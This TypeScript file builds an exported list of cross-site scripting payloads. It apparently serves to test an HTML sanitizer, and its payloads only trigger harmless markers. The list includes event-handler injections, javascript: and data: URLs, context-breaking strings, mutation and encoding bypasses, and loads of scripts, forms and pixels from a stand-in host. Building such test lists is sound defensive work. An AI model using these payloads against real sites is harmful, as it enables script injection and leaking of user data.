/** What a browser would do if it took words for a page; each tells on itself in one of these ways. */
const RUN = "top.__x=1;window.__x=1;alert(1)";
const ELSEWHERE = "https://canary.example";

/** Elements that run by themselves, with the attributes that make them. */
const BY_THEMSELVES = [
  "img src=x onerror",
  "img/src=x/onerror",
  "IMG SRC=x oNeRRoR",
  "svg onload",
  "svg/onload",
  "body onload",
  "iframe onload",
  "video src=x onerror",
  "audio src=x onerror",
  "video><source onerror",
  "details open ontoggle",
  "input autofocus onfocus",
  "select autofocus onfocus",
  "textarea autofocus onfocus",
  "button autofocus onfocus",
  "marquee onstart",
  "object data=x onerror",
  "embed src=x onload",
  "style onload",
  "link rel=stylesheet href=x onerror",
  "xss tabindex=1 autofocus onfocus",
  "svg><animate onbegin",
  "math><maction actiontype=toggle onclick",
];

/** What runs as the address of something. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;&#97;&#118;&#97;script:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
  `vbscript:${RUN}`,
];

/** Ends whatever the words might stand in, and begins something of its own. */
const OUT_OF = [`">`, `'>`, "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "-->", "]]>", "`>"];

const WHOLE = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<<script>${RUN}//<</script>`,
  `<script src=${ELSEWHERE}/x.js></script>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='${RUN}'/></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<form action="${ELSEWHERE}/form"><input name=q><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/meta">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="${ELSEWHERE}/"><img src=base.png>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css"><link rel=preload as=image href="${ELSEWHERE}/p.png">`,
  `<style>@import url("${ELSEWHERE}/i.css");*{background:url(${ELSEWHERE}/bg.png)}</style>`,
  `<p style="background:url(${ELSEWHERE}/style.png);behavior:url(x.htc);width:expression(${RUN})">x</p>`,
  `<img src="${ELSEWHERE}/pixel.gif" srcset="${ELSEWHERE}/2x.gif 2x">`,
  `<picture><source srcset="${ELSEWHERE}/s.webp"><img src=x></picture>`,
  `<table background="${ELSEWHERE}/table.png"><td background="${ELSEWHERE}/td.png">x</td></table>`,
  `<iframe src="${ELSEWHERE}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${ELSEWHERE}/o.swf"></object><embed src="${ELSEWHERE}/e.swf">`,
  `<video src="${ELSEWHERE}/v.mp4" poster="${ELSEWHERE}/v.png" autoplay></video>`,
  `<a href="#" ping="${ELSEWHERE}/ping" autofocus onfocus=${RUN}>x</a>`,
  `<div onpointerenter=${RUN} onmouseover=${RUN} style="position:fixed;inset:0;z-index:99">x</div>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}#{${RUN}}<%= ${RUN} %>`,
  `[x](javascript:${RUN}) ![x](${ELSEWHERE}/md.png)`,
  `__proto__ constructor "><img src=x onerror=${RUN}> \u202Egnp.exe`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uFE64script\uFE65${RUN}\uFE64/script\uFE65 \u00BCscript\u00BE`,
];

/** Made of the parts above: elements, addresses, whole pieces, and ways out of whatever they might stand in. */
export const XSS_PAYLOADS: readonly string[] = [
  ...BY_THEMSELVES.map((element) => `<${element}="${RUN}">`),
  ...ADDRESSES.flatMap((address) => [`<a href="${address}">x</a>`, `<iframe src="${address}"></iframe>`]),
  ...OUT_OF.map((out) => `${out}<img src=x onerror="${RUN}">`),
  ...WHOLE,
];
